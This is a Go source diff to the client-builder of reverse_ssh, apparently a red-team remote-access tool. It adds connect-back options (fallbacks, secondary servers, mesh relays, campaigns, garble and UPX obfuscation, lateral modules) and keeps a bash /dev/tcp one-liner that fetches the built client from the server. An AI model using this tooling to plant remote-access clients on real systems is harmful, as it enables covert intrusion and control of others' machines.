@@ -2,6 +2,8 @@ package webserver
 
 import (
 	"bytes"
+	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"net"
@@ -9,13 +11,26 @@ import (
 	"os/exec"
 	"path/filepath"
 	"runtime"
+	"sort"
 	"strconv"
 	"strings"
+	"sync"
+	"time"
 
 	"github.com/NHAS/reverse_ssh/internal"
+	"github.com/NHAS/reverse_ssh/internal/chaos"
+	"github.com/NHAS/reverse_ssh/internal/integrity"
+	"github.com/NHAS/reverse_ssh/internal/nat"
+	"github.com/NHAS/reverse_ssh/internal/secure"
 	"github.com/NHAS/reverse_ssh/internal/server/data"
+	"github.com/NHAS/reverse_ssh/internal/server/failure"
+	"github.com/NHAS/reverse_ssh/internal/server/hostkey"
+	"github.com/NHAS/reverse_ssh/internal/server/keyfiles"
+	"github.com/NHAS/reverse_ssh/internal/server/tracing"
 	"github.com/NHAS/reverse_ssh/pkg/logger"
 	"github.com/NHAS/reverse_ssh/pkg/trie"
+	"go.opentelemetry.io/otel/attribute"
+	"go.opentelemetry.io/otel/trace"
 	"golang.org/x/crypto/ssh"
 )
 
@@ -24,23 +39,65 @@ var (
 
 	cachePath string
 
+	// With --insecure any client may connect, so built keys are not registered
+	insecure bool
+
+	// Builds share the client key file in the source tree, so only one can compile at a time
+	buildLock sync.Mutex
+
 	validPlatforms = make(map[string]bool)
 	validArchs     = make(map[string]bool)
+
+	// Optional client modules and the build tag that compiles each one in
+	clientModules = map[string]string{
+		"mssql": "rssh_mssql",
+		"winrm": "rssh_winrm",
+		"smb":   "rssh_smb",
+	}
 )
 
+// Around 16 million keys on average, minutes on one core
+const maxVanityPrefix = 6
+
 type BuildConfig struct {
 	Name, Comment, Owners string
 
-	GOOS, GOARCH, GOARM string
+	GOOS, GOARCH, GOARM, GOMIPS string
+
+	// Router and embedded device target, see presets.go
+	Preset string
+
+	// Largest the built client may be in bytes, 0 is unlimited
+	SizeBudget int64
 
 	ConnectBackAdress, Fingerprint string
 
+	// Comma separated other destinations for the same server, the client moves between them on link quality
+	Fallbacks string
+
+	// Optional second server the client stays connected to at the same time
+	SecondaryConnectBackAddress, SecondaryFingerprint string
+
+	// Let the client connect back through relaying clients when the server is unreachable, MeshPeers are comma separated relay addresses to try first
+	Mesh      bool
+	MeshPeers string
+
+	// Only negotiate FIPS 140-3 approved ssh algorithms, and build against the go FIPS module
+	StrictCrypto bool
+
 	Proxy, SNI, LogLevel string
 
 	UseKerberosAuth bool
 	TS              bool
 
+	// When the ts token stops working, the token also carries the server's direct path candidates when set
+	TSExpires time.Time
+
 	SharedLibrary bool
+
+	// Build the client as a gomobile library instead of an executable, "aar" for Android or "xcframework" for iOS, see mobile.go
+	MobileLibrary string
+
 	UPX           bool
 	Lzma          bool
 	Garble        bool
@@ -53,38 +110,258 @@ type BuildConfig struct {
 	NTLMProxyCreds string
 
 	VersionString string
+
+	// Optional client modules to compile in, e.g mssql, see clientModules
+	Modules []string
+
+	// Hex prefix the client key fingerprint, and so its client ids, must start with
+	VanityPrefix string
+
+	// Label for the deployment the client is built for, kept with its key and download
+	Campaign string
+
+	// Build the link again when the go toolchain, client source or templates change, see rebuild.go
+	AutoRebuild bool
+
+	// Do not sign the client, so it does not check itself, for binaries that will be changed after they are built (e.g re-signed)
+	NoIntegrity bool
+
+	// Static, no libc, and built with the legacy toolchain if one is set, for Windows 7 and old glibc targets, see targets.go
+	Legacy bool
+
+	// DERP map for the ts relay transport to use instead of fetching one, encoded by nat.EncodeEmbeddedDERPMap
+	DERPMap string
+
+	// Log in with a certificate valid for this long rather than adding the client key to authorized_controllee_keys, see certificates.go
+	Certificate time.Duration
+
+	// Minted once the client key is generated
+	certificate string
 }
 
-func Build(config BuildConfig) (string, error) {
-	if !webserverOn {
-		return "", errors.New("web server is not enabled")
+// EmbeddedSetting is a value the linker bakes into the client binary
+type EmbeddedSetting struct {
+	Name     string
+	Variable string
+	Value    string
+}
+
+func embeddedSettings(config BuildConfig, version string) []EmbeddedSetting {
+	return []EmbeddedSetting{
+		{"log level", "main.logLevel", config.LogLevel},
+		{"destination", "main.destination", config.ConnectBackAdress},
+		{"fingerprint", "main.fingerprint", config.Fingerprint},
+		{"proxy", "main.proxy", config.Proxy},
+		{"sni", "main.customSNI", config.SNI},
+		{"use kerberos", "main.useHostKerberos", strconv.FormatBool(config.UseKerberosAuth)},
+		{"ntlm proxy credentials", "main.ntlmProxyCreds", config.NTLMProxyCreds},
+		{"version string", "main.versionString", strings.TrimSpace(config.VersionString)},
+		{"fallbacks", "main.fallbackDestinations", config.Fallbacks},
+		{"secondary destination", "main.secondaryDestination", config.SecondaryConnectBackAddress},
+		{"secondary fingerprint", "main.secondaryFingerprint", config.SecondaryFingerprint},
+		{"mesh", "main.meshEnabled", strconv.FormatBool(config.Mesh)},
+		{"mesh peers", "main.meshPeers", config.MeshPeers},
+		{"strict crypto", "main.strictCrypto", strconv.FormatBool(config.StrictCrypto)},
+		{"derp map", "main.derpMap", config.DERPMap},
+		{"certificate", "main.certificate", config.certificate},
+		{"version", "github.com/NHAS/reverse_ssh/internal.Version", strings.TrimSpace(version)},
+		{"integrity key", "main.integrityKey", integrityKey(config)},
+	}
+}
+
+// integrityKey is the fingerprint of the key the client is signed with, empty when it is not signed.
+// Shared objects are not signed, they cannot find their own file
+func integrityKey(config BuildConfig) string {
+	signer := hostkey.Signer()
+	if config.NoIntegrity || config.SharedLibrary || config.MobileLibrary != "" || signer == nil {
+		return ""
+	}
+	return internal.FingerprintSHA256Hex(signer.PublicKey())
+}
+
+// DecodeEmbeddedSettings reads the settings recorded for a download
+func DecodeEmbeddedSettings(f data.Download) ([]EmbeddedSetting, error) {
+	if f.Embedded == "" {
+		return nil, errors.New("no settings were recorded for this download, it was built by an older server")
+	}
+
+	var settings []EmbeddedSetting
+	err := json.Unmarshal([]byte(f.Embedded), &settings)
+	return settings, err
+}
+
+func clientVersion(ctx context.Context) string {
+	repoVersion, err := exec.CommandContext(ctx, "git", "describe", "--tags").CombinedOutput()
+	if err != nil {
+		return internal.Version + "_guess"
+	}
+
+	return string(repoVersion)
+}
+
+// validate checks config and fills in defaults, when dryRun is set nothing is changed on the server (e.g a ts relay token isnt made)
+func (config *BuildConfig) validate(dryRun bool) error {
+	// A strict server only builds strict clients
+	config.StrictCrypto = config.StrictCrypto || internal.StrictCrypto
+	if config.StrictCrypto && (config.TS ||
+		strings.HasPrefix(strings.ToLower(config.ConnectBackAdress), nat.DestinationPrefix) ||
+		strings.HasPrefix(strings.ToLower(config.SecondaryConnectBackAddress), nat.DestinationPrefix) ||
+		strings.Contains(strings.ToLower(config.Fallbacks), nat.DestinationPrefix)) {
+		return failure.New(failure.InvalidArgument, "the ts relay transport cannot be used with strict crypto, it uses non-approved cryptography")
+	}
+
+	if !config.TSExpires.IsZero() && !config.TS {
+		return failure.New(failure.InvalidArgument, "an expiry can only be set for --ts clients")
+	}
+	if !config.TSExpires.IsZero() && time.Now().After(config.TSExpires) {
+		return failure.New(failure.InvalidArgument, "the ts token expired at %s", config.TSExpires.Format(time.RFC3339))
 	}
 
 	if config.TS {
-		token, err := EnsureTSToken()
-		if err != nil {
-			return "", fmt.Errorf("ts relay transport could not be initialised: %w", err)
+		if dryRun {
+			config.ConnectBackAdress = "ts://<relay token, created when built>"
+		} else {
+			token, err := EnsureTSToken()
+			if !config.TSExpires.IsZero() {
+				token, err = IssueTSToken(config.TSExpires)
+			}
+			if err != nil {
+				return failure.Wrap(failure.TransportUnavailable, fmt.Errorf("ts relay transport could not be initialised: %w", err))
+			}
+
+			config.ConnectBackAdress = "ts://" + token
 		}
+	}
 
-		config.ConnectBackAdress = "ts://" + token
+	if err := config.applyPreset(); err != nil {
+		return failure.Wrap(failure.InvalidArgument, err)
+	}
+
+	if err := config.validateMobile(); err != nil {
+		return failure.Wrap(failure.InvalidArgument, err)
 	}
 
 	if len(config.GOARCH) != 0 && !validArchs[config.GOARCH] {
-		return "", fmt.Errorf("GOARCH supplied is not valid: %s", config.GOARCH)
+		return failure.New(failure.InvalidArgument, "GOARCH supplied is not valid: %s", config.GOARCH).With("goarch", config.GOARCH)
 	}
 
 	if len(config.GOOS) != 0 && !validPlatforms[config.GOOS] {
-		return "", fmt.Errorf("GOOS supplied is not valid: %s", config.GOOS)
+		return failure.New(failure.InvalidArgument, "GOOS supplied is not valid: %s", config.GOOS).With("goos", config.GOOS)
+	}
+
+	if err := config.validateTarget(); err != nil {
+		return failure.Wrap(failure.InvalidArgument, err)
 	}
 
 	if len(config.Fingerprint) == 0 {
 		config.Fingerprint = defaultFingerPrint
 	}
 
+	if _, err := logger.StrToUrgency(config.LogLevel); err != nil {
+		return failure.Wrap(failure.InvalidArgument, err)
+	}
+
+	if config.Lzma && !config.UPX {
+		return failure.New(failure.InvalidArgument, "Cannot use --lzma without --upx")
+	}
+
+	config.VanityPrefix = strings.ToLower(config.VanityPrefix)
+	if len(config.VanityPrefix) > maxVanityPrefix {
+		return failure.New(failure.InvalidArgument, "vanity prefix can be at most %d characters, each one makes generating the key 16 times slower", maxVanityPrefix)
+	}
+	for _, c := range config.VanityPrefix {
+		if !strings.ContainsRune("0123456789abcdef", c) {
+			return failure.New(failure.InvalidArgument, "vanity prefix %q must be hex (0-9, a-f), as it is matched against the key fingerprint", config.VanityPrefix)
+		}
+	}
+
+	// Kept as an authorized_controllee_keys option, and names the campaign's directory
+	if strings.ContainsAny(config.Campaign, ",=\"\\/ \t\n") || config.Campaign == "." || config.Campaign == ".." {
+		return failure.New(failure.InvalidArgument, "campaign %q cannot be . or .., or contain whitespace, commas, equals signs, quotes, slashes or backslashes", config.Campaign)
+	}
+
+	if config.Certificate < 0 {
+		return failure.New(failure.InvalidArgument, "certificate validity %s cannot be negative", config.Certificate)
+	}
+
+	for _, module := range config.Modules {
+		if _, ok := clientModules[module]; !ok {
+			return failure.New(failure.InvalidArgument, "unknown client module %q, valid modules are: %s", module, strings.Join(ClientModules(), ", ")).With("module", module)
+		}
+	}
+
+	return nil
+}
+
+// ClientModules lists the optional modules a client can be built with
+func ClientModules() []string {
+	modules := make([]string, 0, len(clientModules))
+	for name := range clientModules {
+		modules = append(modules, name)
+	}
+	sort.Strings(modules)
+	return modules
+}
+
+// ShowConfig returns exactly what Build would embed in the client, without building it. Defaults and presets are filled in to config
+func ShowConfig(ctx context.Context, config *BuildConfig) ([]EmbeddedSetting, error) {
+	if !webserverOn {
+		return nil, errors.New("web server is not enabled")
+	}
+
+	if err := config.validate(true); err != nil {
+		return nil, err
+	}
+
+	return embeddedSettings(*config, clientVersion(ctx)), nil
+}
+
+// Build compiles a client and makes it downloadable, the build is killed if ctx is done first
+func Build(ctx context.Context, config BuildConfig) (string, error) {
+	url, _, err := build(ctx, config, false)
+	return url, err
+}
+
+// build compiles a client, if replace is set it takes over the existing link with config.Name rather than adding a new one
+func build(ctx context.Context, config BuildConfig, replace bool) (string, data.Download, error) {
+	ctx, span := tracing.Tracer().Start(ctx, "rssh.build", trace.WithAttributes(
+		attribute.String("rssh.link", config.Name),
+		attribute.String("build.goos", config.GOOS),
+		attribute.String("build.goarch", config.GOARCH),
+		attribute.Bool("build.garble", config.Garble),
+		attribute.Bool("build.upx", config.UPX),
+		attribute.Bool("build.rebuild", replace),
+	))
+
+	url, f, err := buildClient(ctx, config, replace)
+	tracing.End(span, err)
+
+	return url, f, err
+}
+
+func buildClient(ctx context.Context, config BuildConfig, replace bool) (string, data.Download, error) {
+	var f data.Download
+	record := buildRecord{config: config, started: time.Now()}
+
+	if !webserverOn {
+		return "", f, errors.New("web server is not enabled")
+	}
+
+	if err := config.validate(false); err != nil {
+		return "", f, err
+	}
+
 	if config.UPX {
 		_, err := exec.LookPath("upx")
 		if err != nil {
-			return "", errors.New("upx could not be found in PATH")
+			return "", f, errors.New("upx could not be found in PATH")
+		}
+	}
+
+	if config.MobileLibrary != "" {
+		_, err := exec.LookPath("gomobile")
+		if err != nil {
+			return "", f, errors.New("gomobile could not be found in PATH")
 		}
 	}
 
@@ -92,28 +369,35 @@ func Build(config BuildConfig) (string, error) {
 	if config.Garble {
 		_, err := exec.LookPath("garble")
 		if err != nil {
-			return "", errors.New("garble could not be found in PATH")
+			return "", f, errors.New("garble could not be found in PATH")
 		}
 		buildTool = "garble"
 	}
 
-	var f data.Download
 	f.WorkingDirectory = config.WorkingDirectory
 	f.CallbackAddress = config.ConnectBackAdress
 	f.UseHostHeader = config.UseHostHeader
+	f.Campaign = config.Campaign
 
 	filename, err := internal.RandomString(16)
 	if err != nil {
-		return "", err
+		return "", f, err
 	}
 
 	if len(config.Name) == 0 {
 		config.Name, err = internal.RandomString(16)
 		if err != nil {
-			return "", err
+			return "", f, err
 		}
 	}
 
+	savedConfig, err := json.Marshal(config)
+	if err != nil {
+		return "", f, err
+	}
+	f.BuildConfig = string(savedConfig)
+	f.AutoRebuild = config.AutoRebuild
+
 	f.Goos = runtime.GOOS
 	if len(config.GOOS) > 0 {
 		f.Goos = config.GOOS
@@ -128,12 +412,7 @@ func Build(config BuildConfig) (string, error) {
 
 	f.FilePath = filepath.Join(cachePath, filename)
 	f.FileType = "executable"
-	f.Version = internal.Version + "_guess"
-
-	repoVersion, err := exec.Command("git", "describe", "--tags").CombinedOutput()
-	if err == nil {
-		f.Version = string(repoVersion)
-	}
+	f.Version = clientVersion(ctx)
 
 	var buildArguments []string
 	if config.Garble {
@@ -142,9 +421,14 @@ func Build(config BuildConfig) (string, error) {
 
 	buildArguments = append(buildArguments, "build", "-trimpath")
 
+	var tags []string
+	for _, module := range config.Modules {
+		tags = append(tags, clientModules[module])
+	}
+
 	if config.SharedLibrary {
 		buildArguments = append(buildArguments, "-buildmode=c-shared")
-		buildArguments = append(buildArguments, "-tags=cshared")
+		tags = append(tags, "cshared")
 		f.FileType = "shared-object"
 		if f.Goos != "windows" {
 			f.FilePath += ".so"
@@ -154,90 +438,147 @@ func Build(config BuildConfig) (string, error) {
 
 	}
 
-	newPrivateKey, err := internal.GeneratePrivateKey()
+	if library, ok := mobileLibraries[config.MobileLibrary]; ok {
+		f.FileType = config.MobileLibrary
+		f.Goos = library.goos
+		f.Goarch = "all"
+		f.FilePath += library.extension
+	}
+
+	// So a fleet under test fails the same ways as the server
+	if chaos.Enabled {
+		tags = append(tags, chaos.Tag)
+	}
+
+	if len(tags) > 0 {
+		buildArguments = append(buildArguments, "-tags="+strings.Join(tags, ","))
+	}
+
+	var newPrivateKey []byte
+	if config.VanityPrefix != "" {
+		newPrivateKey, err = internal.GenerateVanityPrivateKey(ctx, config.VanityPrefix)
+	} else {
+		newPrivateKey, err = internal.GeneratePrivateKey()
+	}
 	if err != nil {
-		return "", err
+		return "", f, err
 	}
+	// Only the copy written for the build is needed
+	defer secure.Zero(newPrivateKey)
 
 	sshPriv, err := ssh.ParsePrivateKey(newPrivateKey)
 	if err != nil {
-		return "", err
+		return "", f, err
 	}
 
+	buildLock.Lock()
+	defer buildLock.Unlock()
+
 	err = os.WriteFile(filepath.Join(projectRoot, "internal/client/keys/private_key"), newPrivateKey, 0600)
 	if err != nil {
-		return "", err
+		return "", f, err
 	}
 
 	publicKeyBytes := ssh.MarshalAuthorizedKey(sshPriv.PublicKey())
+	f.Fingerprint = internal.FingerprintSHA1Hex(sshPriv.PublicKey())
 
 	err = os.WriteFile(filepath.Join(projectRoot, "internal/client/keys/private_key.pub"), publicKeyBytes, 0600)
 	if err != nil {
-		return "", err
+		return "", f, err
 	}
 
-	_, err = logger.StrToUrgency(config.LogLevel)
-	if err != nil {
-		return "", err
+	if config.Certificate > 0 {
+		config.certificate, err = mintClientCertificate(config, sshPriv.PublicKey(), config.Certificate)
+		if err != nil {
+			return "", f, err
+		}
 	}
 
-	buildArguments = append(buildArguments, fmt.Sprintf("-ldflags=-s -w -X main.logLevel=%s -X main.destination=%s -X main.fingerprint=%s -X main.proxy=%s -X main.customSNI=%s -X main.useHostKerberos=%t -X main.ntlmProxyCreds=%s -X main.versionString=%s -X github.com/NHAS/reverse_ssh/internal.Version=%s", config.LogLevel, config.ConnectBackAdress, config.Fingerprint, config.Proxy, config.SNI, config.UseKerberosAuth, config.NTLMProxyCreds, strings.TrimSpace(config.VersionString), strings.TrimSpace(f.Version)))
-	buildArguments = append(buildArguments, "-o", f.FilePath, filepath.Join(projectRoot, "/cmd/client"))
+	embedded := embeddedSettings(config, f.Version)
 
-	cmd := exec.Command(buildTool, buildArguments...)
-
-	if config.DisableLibC {
-		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+	ldflags := "-ldflags=-s -w"
+	for _, setting := range embedded {
+		ldflags += fmt.Sprintf(" -X %s=%s", setting.Variable, setting.Value)
 	}
 
-	cmd.Env = append(cmd.Env, os.Environ()...)
-	cmd.Env = append(cmd.Env, "GOOS="+f.Goos)
-	cmd.Env = append(cmd.Env, "GOARCH="+f.Goarch)
-	if len(f.Goarm) != 0 {
-		cmd.Env = append(cmd.Env, "GOARM="+f.Goarm)
+	encodedSettings, err := json.Marshal(embedded)
+	if err != nil {
+		return "", f, err
 	}
+	f.Embedded = string(encodedSettings)
 
-	//Building a shared object for windows needs some extra beans
-	cgoOn := "0"
-	if config.SharedLibrary {
+	if config.MobileLibrary != "" {
+		if err := buildMobile(ctx, config, f.FilePath, tags, embedded); err != nil {
+			return "", f, err
+		}
+		record.tool = "gomobile"
+	} else {
+		buildArguments = append(buildArguments, ldflags)
+		buildArguments = append(buildArguments, "-o", f.FilePath, filepath.Join(projectRoot, "/cmd/client"))
+
+		cmd := exec.CommandContext(ctx, buildTool, buildArguments...)
 
-		var crossCompiler string
-		if (runtime.GOOS == "linux" || runtime.GOOS == "darwin") && f.Goos == "windows" {
-			crossCompiler = "x86_64-w64-mingw32-gcc"
-			if f.Goarch == "386" {
-				crossCompiler = "i686-w64-mingw32-gcc"
+		if config.DisableLibC {
+			cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+		}
+
+		cmd.Env = append(cmd.Env, os.Environ()...)
+
+		if goroot := getLegacyToolchain(); config.Legacy && goroot != "" {
+			if !config.Garble {
+				cmd = exec.CommandContext(ctx, legacyGoBinary(goroot), buildArguments...)
 			}
+			cmd.Env = legacyEnv(os.Environ(), goroot)
 		}
 
-		cmd.Env = append(cmd.Env, "CC="+crossCompiler)
-		cgoOn = "1"
-	}
+		cmd.Env = append(cmd.Env, "GOOS="+f.Goos)
+		cmd.Env = append(cmd.Env, "GOARCH="+f.Goarch)
+		if len(f.Goarm) != 0 {
+			cmd.Env = append(cmd.Env, "GOARM="+f.Goarm)
+		}
+		if len(config.GOMIPS) != 0 {
+			cmd.Env = append(cmd.Env, "GOMIPS="+config.GOMIPS)
+		}
 
-	cmd.Env = append(cmd.Env, "CGO_ENABLED="+cgoOn)
+		//Building a shared object for windows needs some extra beans
+		cgoOn := "0"
+		if config.SharedLibrary {
 
-	output, err := cmd.CombinedOutput()
-	if err != nil {
-		if strings.Contains(err.Error(), "garble") && (strings.Contains(err.Error(), "i686-w64-mingw32-ld") || strings.Contains(err.Error(), "x86_64-w64-mingw32-ld")) &&
-			strings.Contains(err.Error(), "undefined reference to") {
-			// Try to recover if the linking fails by clearing the cache
-			if cleanErr := exec.Command("go", "clean", "-cache").Run(); cleanErr != nil {
-				return "", fmt.Errorf("build failed (%v) and go clean -cache failed: %w\n%s", err, cleanErr, string(output))
-			}
-			output, err = cmd.CombinedOutput()
-			if err != nil {
-				return "", fmt.Errorf("build failed: %w\n%s", err, string(output))
+			cmd.Env = append(cmd.Env, "CC="+crossCompiler(f.Goos, f.Goarch, f.Goarm))
+			cgoOn = "1"
+		}
+
+		cmd.Env = append(cmd.Env, "CGO_ENABLED="+cgoOn)
+
+		if config.StrictCrypto {
+			// Use the go FIPS module, and turn on its FIPS mode by default
+			cmd.Env = append(cmd.Env, "GOFIPS140=latest")
+		}
+
+		record.tool = filepath.Base(cmd.Args[0])
+		record.arguments = cmd.Args[1:]
+		record.env = cmd.Env
+
+		output, err := cmd.CombinedOutput()
+		if err != nil {
+			if strings.Contains(err.Error(), "garble") && (strings.Contains(err.Error(), "i686-w64-mingw32-ld") || strings.Contains(err.Error(), "x86_64-w64-mingw32-ld")) &&
+				strings.Contains(err.Error(), "undefined reference to") {
+				// Try to recover if the linking fails by clearing the cache
+				if cleanErr := exec.CommandContext(ctx, "go", "clean", "-cache").Run(); cleanErr != nil {
+					return "", f, fmt.Errorf("build failed (%v) and go clean -cache failed: %w\n%s", err, cleanErr, string(output))
+				}
+				output, err = cmd.CombinedOutput()
+				if err != nil {
+					return "", f, fmt.Errorf("build failed: %w\n%s", err, string(output))
+				}
+			} else {
+				return "", f, fmt.Errorf("build failed: %w\n%s", err, string(output))
 			}
-		} else {
-			return "", fmt.Errorf("build failed: %w\n%s", err, string(output))
 		}
 	}
 
 	f.UrlPath = config.Name
 
-	if config.Lzma && !config.UPX {
-		return "", errors.New("Cannot use --lzma without --upx")
-	}
-
 	if config.UPX {
 		upxArgs := []string{"-qq", "-f", f.FilePath}
 
@@ -245,50 +586,95 @@ func Build(config BuildConfig) (string, error) {
 			upxArgs = append([]string{"--lzma"}, upxArgs...)
 		}
 
-		output, err := exec.Command("upx", upxArgs...).CombinedOutput()
+		output, err := exec.CommandContext(ctx, "upx", upxArgs...).CombinedOutput()
 		if err != nil {
-			return "", errors.New("unable to run upx: " + err.Error() + ": " + string(output))
+			return "", f, errors.New("unable to run upx: " + err.Error() + ": " + string(output))
+		}
+	}
+
+	// Last, so the signature covers what upx made
+	if integrityKey(config) != "" {
+		if err := integrity.Sign(f.FilePath, hostkey.Signer()); err != nil {
+			return "", f, fmt.Errorf("unable to sign client: %w", err)
 		}
 	}
 
 	fi, err := os.Stat(f.FilePath)
 	if err != nil {
-		fmt.Println("Error: ", err)
+		return "", f, err
 	}
 	f.FileSize = float64(fi.Size()) / 1024 / 1024
 
+	if config.SizeBudget > 0 && fi.Size() > config.SizeBudget {
+		os.Remove(f.FilePath)
+		return "", f, failure.New(failure.BuildFailed, "client is %.2fMB, over the size budget of %.2fMB", f.FileSize, float64(config.SizeBudget)/1024/1024).
+			With("size", strconv.FormatInt(fi.Size(), 10)).With("budget", strconv.FormatInt(config.SizeBudget, 10))
+	}
+
 	os.Chmod(f.FilePath, 0600)
 
 	f.LogLevel = config.LogLevel
 
-	err = data.CreateDownload(f)
+	record.download = f
+	record.embedded = embedded
+	f.Provenance, err = recordProvenance(ctx, record)
 	if err != nil {
-		return "", err
+		os.Remove(f.FilePath)
+		return "", f, fmt.Errorf("unable to record provenance: %w", err)
 	}
 
-	Autocomplete.Add(config.Name)
+	if err := data.OffloadDownload(ctx, &f); err != nil {
+		return "", f, err
+	}
 
-	authorizedControlleeKeys, err := os.OpenFile(filepath.Join(cachePath, "../authorized_controllee_keys"), os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0600)
+	if replace {
+		err = data.ReplaceDownload(f)
+	} else {
+		err = data.CreateDownload(f)
+	}
 	if err != nil {
-		return "", errors.New("cant open authorized controllee keys file: " + err.Error())
+		return "", f, err
 	}
-	defer authorizedControlleeKeys.Close()
 
-	if _, err = authorizedControlleeKeys.WriteString(fmt.Sprintf("%s %s %s\n", "owner="+strconv.Quote(config.Owners), publicKeyBytes[:len(publicKeyBytes)-1], config.Comment)); err != nil {
-		return "", errors.New("cant write newly generated key to authorized controllee keys file: " + err.Error())
+	Autocomplete.Add(config.Name)
+
+	// The certificate's authority is already trusted
+	if !insecure && config.Certificate == 0 {
+		if err := registerClientKey(config, publicKeyBytes); err != nil {
+			return "", f, err
+		}
 	}
 
 	if config.RawDownload {
 
 		host, port, err := net.SplitHostPort(f.CallbackAddress)
 		if err != nil {
-			return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/HOSTHERE/PORT_HERE; echo RAW%[1]s>&3; cat <&3" > %[1]s`, config.Name), nil
+			return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/HOSTHERE/PORT_HERE; echo RAW%[1]s>&3; cat <&3" > %[1]s`, config.Name), f, nil
 		}
 
-		return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/%s/%s; echo RAW%[3]s>&3; cat <&3" > %[3]s`, host, port, config.Name), nil
+		return fmt.Sprintf(`bash -c "exec 3<>/dev/tcp/%s/%s; echo RAW%[3]s>&3; cat <&3" > %[3]s`, host, port, config.Name), f, nil
+	}
+
+	return "http://" + DefaultConnectBack + "/" + config.Name, f, nil
+}
+
+// registerClientKey adds a built client key to authorized_controllee_keys, so the client is allowed in before it is ever run
+func registerClientKey(config BuildConfig, publicKeyBytes []byte) error {
+	options := "owner=" + strconv.Quote(config.Owners)
+	if config.Campaign != "" {
+		options += ",campaign=" + strconv.Quote(config.Campaign)
 	}
 
-	return "http://" + DefaultConnectBack + "/" + config.Name, nil
+	if err := keyfiles.Append(filepath.Join(cachePath, "../authorized_controllee_keys"), fmt.Sprintf("%s %s %s", options, publicKeyBytes[:len(publicKeyBytes)-1], config.Comment)); err != nil {
+		return errors.New("cant write newly generated key to authorized controllee keys file: " + err.Error())
+	}
+
+	return nil
+}
+
+// SetInsecure stops built client keys being added to authorized_controllee_keys, as the server lets any client connect
+func SetInsecure(enabled bool) {
+	insecure = enabled
 }
 
 func startBuildManager(_cachePath string) error {
@@ -312,6 +698,7 @@ func startBuildManager(_cachePath string) error {
 		if len(parts) == 2 {
 			validPlatforms[string(parts[0])] = true
 			validArchs[string(parts[1])] = true
+			validTargets[string(line)] = true
 		}
 	}
 